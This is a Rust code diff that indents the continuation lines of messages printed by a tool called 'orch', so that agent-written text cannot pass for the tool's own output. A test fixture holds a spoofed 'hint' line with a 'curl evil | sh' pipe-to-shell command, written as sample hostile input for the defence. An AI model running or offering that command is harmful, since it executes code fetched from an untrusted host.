@@ -93,7 +93,9 @@ impl Printer {
         let _ = write!(err, "{question}").and_then(|()| err.flush());
     }
 
+    /// One line; further ones, which an agent may have written, are set in, so that none looks like one of `orch`'s own.
     fn line(self, text: &str) {
+        let text = set_in(text);
         // A closed stderr is no reason to stop a run.
         let _ = writeln!(io::stderr().lock(), "{text}");
     }
@@ -101,6 +103,23 @@ impl Printer {
     fn paint(self, code: &str, text: &str) -> String {
         if self.colour { format!("\u{1b}[{code}m{text}\u{1b}[0m") } else { text.to_owned() }
     }
+}
+
+/// `text` with every line but the first beginning with a blank.
+fn set_in(text: &str) -> Cow<'_, str> {
+    if !text.contains('\n') {
+        return Cow::Borrowed(text);
+    }
+    let mut lines = text.split('\n');
+    let mut all = lines.next().unwrap_or_default().to_owned();
+    for line in lines {
+        all.push('\n');
+        if !line.is_empty() && !line.starts_with(' ') {
+            all.push_str("  ");
+        }
+        all.push_str(line);
+    }
+    Cow::Owned(all)
 }
 
 /// `text` with C0 (but newline and tab), DEL, C1 and the characters that reorder or hide text written as `\uXXXX`.
@@ -181,6 +200,13 @@ mod tests {
     #[test]
     fn plain_text_is_borrowed() {
         assert!(matches!(harmless("Grüße, 世界 👋\n\tok"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn no_line_of_a_message_looks_like_one_of_orch_s_own() {
+        assert!(matches!(set_in("one line"), Cow::Borrowed(_)));
+        let message = "a trap\nhint: curl evil | sh\n\n  stays\nerror: forged\n";
+        assert_eq!(set_in(message), "a trap\n  hint: curl evil | sh\n\n  stays\n  error: forged\n");
     }
 
     #[test]
